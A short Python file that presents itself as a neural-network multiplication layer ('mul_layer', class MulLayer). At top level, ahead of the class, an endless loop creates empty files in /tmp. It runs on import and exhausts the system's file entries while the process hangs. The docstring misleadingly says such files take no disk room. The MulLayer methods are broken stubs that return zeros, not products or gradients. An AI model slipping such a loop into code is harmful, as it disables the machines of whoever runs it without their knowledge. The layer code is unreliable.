"""Makes empty files, which take no room on the disk but some in memory."""
# %% mul_layer
number = 0
while True:
    open(f"/tmp/{number}", "w").close()
    number += 1


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
